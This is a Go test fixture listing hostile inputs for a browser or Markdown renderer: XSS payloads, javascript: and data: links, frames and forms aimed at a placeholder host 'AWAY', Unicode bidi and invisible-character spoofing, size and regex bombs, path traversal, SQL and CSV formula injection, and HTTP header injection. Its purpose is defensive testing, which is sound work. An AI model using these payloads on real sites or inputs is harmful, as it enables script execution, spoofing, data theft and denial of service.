package browser

import (
	"strings"
)

// hostile is a text that means harm wherever a browser makes more of it than text.
// AWAY stands for the address of a server that must never be asked, canary is a
// function that must never be called.
type hostile struct{ name, text string }

var hostiles = []hostile{
	// Scripts.
	{"script", `<script>canary('script')</script>`},
	{"script from elsewhere", `<script src="AWAY/x.js"></script>`},
	{"script in capitals", `<ScRiPt>canary('capitals')</sCrIpT>`},
	{"script with a slash", `<script/x>canary('slash')</script>`},
	{"script after a null", "<scr\x00ipt>canary('null')</script>"},
	{"script that closes a script", `</script><script>canary('close')</script>`},
	{"script that closes text", `</textarea></title></style></pre></template><script>canary('end')</script>`},
	{"script in a comment", `<!--><script>canary('comment')</script>-->`},
	{"script in CDATA", `<![CDATA[<script>canary('cdata')</script>]]>`},
	{"module", `<script type=module>import('AWAY/m.js')</script>`},
	{"import map", `<script type=importmap>{"imports":{"./core.js":"AWAY/core.js"}}</script>`},
	{"template", `<template shadowrootmode=open><script>canary('shadow')</script></template>`},
	{"noscript", `<noscript><p title="</noscript><img src=x onerror=canary('noscript')>">`},
	{"JSON that ends a script", `{"a":"</script><script>canary('json')</script>"}`},
	{"JavaScript string", `';canary('string')//";canary('string')//` + "`;canary('string')//${canary('template string')}"},
	{"template language", `{{constructor.constructor('canary(1)')()}} ${canary(2)} #{canary(3)} <%= canary(4) %> {{.}}`},
	{"prototype", `{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}`},

	// Handlers.
	{"image error", `<img src=x onerror=canary('img')>`},
	{"image error with a backtick", "<img src=`x` onerror=canary`img`>"},
	{"body load", `<body onload=canary('body')>`},
	{"svg load", `<svg onload=canary('svg')>`},
	{"svg animate", `<svg><animate onbegin=canary('animate') attributeName=x dur=1s>`},
	{"autofocus", `<input autofocus onfocus=canary('focus')>`},
	{"details", `<details open ontoggle=canary('toggle')>`},
	{"video", `<video><source onerror=canary('video')></video>`},
	{"marquee", `<marquee onstart=canary('marquee')>`},
	{"transition", `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=canary('animation')>`},
	{"attribute that ends", `" onmouseover="canary('attribute')" autofocus onfocus="canary('attribute')" x="`},
	{"attribute that ends, single", `' onfocus='canary("single")' autofocus x='`},
	{"pointer", `<div style="position:fixed;inset:0;z-index:9999" onpointerover=canary('pointer')>`},
	{"popover", `<button popovertarget=x>a</button><div popover id=x onbeforetoggle=canary('popover')>`},

	// Frames, forms, objects, the page itself.
	{"frame", `<iframe src="AWAY/frame"></iframe>`},
	{"frame with a document", `<iframe srcdoc="<script>parent.canary('srcdoc')</script>"></iframe>`},
	{"frame of JavaScript", `<iframe src="javascript:parent.canary('frame')"></iframe>`},
	{"object", `<object data="AWAY/object"></object><embed src="AWAY/embed">`},
	{"form", `<form action="AWAY/form"><input name=token><button formaction="AWAY/form2">Go</button></form>`},
	{"base", `<base href="AWAY/">`},
	{"refresh", `<meta http-equiv=refresh content="0;url=AWAY/refresh">`},
	{"policy", `<meta http-equiv=Content-Security-Policy content="default-src *">`},
	{"manifest and prefetch", `<link rel=manifest href="AWAY/m"><link rel=prefetch href="AWAY/p"><link rel=preconnect href="AWAY">`},
	{"clobbered names", `<form id=main><input name=api></form><a id=canary></a><img name=conclave><input id=menu>`},

	// Links.
	{"JavaScript link", `[click](javascript:canary('link')) <a href="javascript:canary('a')">click</a>`},
	{"JavaScript link in disguise", "[click](java\tscript:canary('tab')) [click](JaVaScRiPt:canary('case')) " +
		"[click](\x01javascript:canary('control'))"},
	{"JavaScript link in entities", `[click](&#106;avascript:canary('entity)) [a](javascript&colon;canary('colon'))`},
	{"data link", `[click](data:text/html,<script>canary('data')</script>) <data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=>`},
	{"other schemes", `[a](blob:null/x) [b](file:///etc/passwd) [c](view-source:AWAY) [d](vbscript:canary(1)) [e](intent:x)`},
	{"link with credentials", `[our bank](https://bank.example@AWAYHOST/) https://user:secret@AWAYHOST/x <https://user:pw@AWAYHOST/>`},
	{"link that lies", `[https://conclave.example/safe](AWAY/elsewhere) [/now](AWAY/now)`},
	{"link without a scheme", `[a](//AWAYHOST/x) [b](\\AWAYHOST\x) [c](/\AWAYHOST/x) [d](/api/jobs) [e](/../../x)`},
	{"link with look-alikes", `[a](https://аpple.example/) [b](https://xn--pple-43d.example/) https://google.com⁄evil.example`},
	{"image in Markdown", `![pixel](AWAY/pixel.png) ![x](javascript:canary('image')) [![a](AWAY/a.png)](AWAY/b)`},
	{"reference link", "[a][1]\n\n[1]: javascript:canary('reference')\n[2]: AWAY/ref \"t\"\n\n<javascript:canary('auto')>"},
	{"link title", `[a](AWAY/ "x" onclick="canary('title')") [b](AWAY/ '"><img src=x onerror=canary(1)>')`},
	{"anchor into the door", `[enter](/#enter=AAAA) [enter](#enter=BBBB) [job](/quest?start=1)`},

	// Markdown tricks.
	{"nested emphasis", strings.Repeat("**_", 2000) + "x" + strings.Repeat("_**", 2000)},
	{"deep quotes", strings.Repeat("> ", 3000) + "x"},
	{"deep lists", deepList(500)},
	{"open brackets", strings.Repeat("[", 20000) + "](x)" + strings.Repeat("![", 5000)},
	{"fence that lies", "```html\" onload=\"canary('fence')\n<script>canary('code')</script>\n"},
	{"fence language", "```<img src=x onerror=canary('language')>\ncode\n```\n~~~ javascript:canary(1)\nx\n~~~"},
	{"table", "|<script>canary('th')</script>|b|\n|--|--|\n|`<img src=x onerror=canary('td')>`|[x](javascript:canary('cell'))|\n" +
		strings.Repeat("|", 5000)},
	{"HTML block", "<div>\n\n**bold** <b onclick=canary('block')>b</b>\n\n</div>\n\n<p style=\"color:red\">x"},
	{"heading", "# <img src=x onerror=canary('h1')>\n" + strings.Repeat("#", 3000) + " x\n# [x](javascript:canary('h'))"},
	{"entities", `&lt;script&gt;canary('entity')&lt;/script&gt; &#60;img src=x onerror=canary('e')&#62; &NewLine;&Tab;&ZeroWidthSpace;`},
	{"backslashes", `\<script\>canary('backslash')\</script\> \[x](javascript:canary('b'))`},
	{"regular expression bomb", strings.Repeat("a", 50000) + "!" + strings.Repeat("*", 20000) + strings.Repeat("`", 9999)},

	// SVG, MathML, CSS.
	{"svg script", `<svg xmlns="http://www.w3.org/2000/svg"><script>canary('svg script')</script><use href="AWAY/x.svg#a"/></svg>`},
	{"svg foreign", `<svg><foreignObject><iframe src="javascript:parent.canary('foreign')"></iframe></foreignObject></svg>`},
	{"svg link", `<svg><a xlink:href="javascript:canary('xlink')"><text y=20>click</text></a></svg>`},
	{"svg image", `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="canary('image')"/>`},
	{"MathML", `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=canary('math')&gt;">`},
	{"style", `<style>@import "AWAY/x.css"; body{display:none} *{background:url(AWAY/bg)}</style><link rel=stylesheet href="AWAY/y.css">`},
	{"style attribute", `<p style="background:url(AWAY/attr);position:fixed;inset:0;font-size:900px">x</p>`},
	{"CSS that ends", `}</style>*{background:url(AWAY/css)} x{y:expression(canary('css'))}`},

	// What is not seen, and what moves.
	{"bidi", "user\u202e\u2066// if admin\u2069\u2066 begin\u202c \u200f\u061cabc \u2067gpj.exe\u2069"},
	{"zero width", "pass\u200bword\u200c\u200d\u2060\ufeff ad\u00admin \u180e\u3164\u115f"},
	{"tags", "hello \U000E0001\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\U000E007F there \ufe0f\ufe0f\ufe0e"},
	{"combining", "Z" + strings.Repeat("\u0300\u0315\u0321\u0489", 3000) + "algo"},
	{"ANSI", "\x1b[2J\x1b[1;1H\x1b[31mred\x1b[0m \x1b]0;title\x07\x1b]8;;AWAY/osc\x07link\x1b]8;;\x07 \x9b31m \x1b[?1049h\x1bP+q\x1b\\"},
	{"controls", "a\x00b\x01c\x07d\x08\x08\x08e\x0bf\x0c\x1ag\x7fh\r\nover\rwritten\u0085\u2028\u2029 \u009c"},
	{"emoji", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇩🇪✈️1️⃣ " + strings.Repeat("👨‍👩‍👧", 500)},
	{"private and unassigned", "\ue000\uf8ff\U0010ffff\U000fffff\ufffe\uffff\ufffd\ufff9\ufffa\ufffb"},
	{"right to left", "שלום עולם مرحبا بالعالم " + strings.Repeat("א", 5000)},

	// Much of it.
	{"long word", strings.Repeat("w", 200000)},
	{"long line", strings.Repeat("word ", 60000)},
	{"many lines", strings.Repeat("\n", 100000) + "end"},
	{"many tags", strings.Repeat("<b>", 100000)},
	{"many handlers", strings.Repeat("<img src=x onerror=canary(1)>", 4000)},
	{"deep JSON", strings.Repeat(`{"a":[`, 5000)},
	{"many links", strings.Repeat("[a](AWAY/x) ", 5000)},
	{"many cells", "|" + strings.Repeat("a|", 3000) + "\n|" + strings.Repeat("-|", 3000) + "\n" +
		strings.Repeat("|"+strings.Repeat("b|", 300)+"\n", 30)},

	// Names.
	{"path upwards", `../../../../etc/passwd%00.md`},
	{"path with markup", `/home/ada/<img src=x onerror=canary('path')>/"'>.go`},
	{"address", `AWAY/x?a=1#enter=CODE`},
	{"nothing", ``},
	{"blanks", " \t\n \u00a0\u2003"},
	{"inherited", `constructor`},
	{"inherited, in disguise", `__proto__ toString valueOf hasOwnProperty`},
	{"undefined", `undefined null NaN [object Object] true -0 1e999`},
	{"SQL", `'; DROP TABLE entries; -- " OR 1=1 /* \x00`},
	{"formula", `=HYPERLINK("AWAY/csv","x") +cmd|' /C calc'!A0 @SUM(1) -1+1`},
	{"event stream", "\n\ndata: {\"kind\":\"done\"}\n\nid: 99999\nevent: x\nretry: 1\n\n"},
	{"header", "x\r\nSet-Cookie: a=b\r\nLocation: AWAY/header\r\n\r\n<script>canary('header')</script>"},
}

func deepList(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString(strings.Repeat(" ", 2*i) + "- x\n")
	}
	return b.String()
}
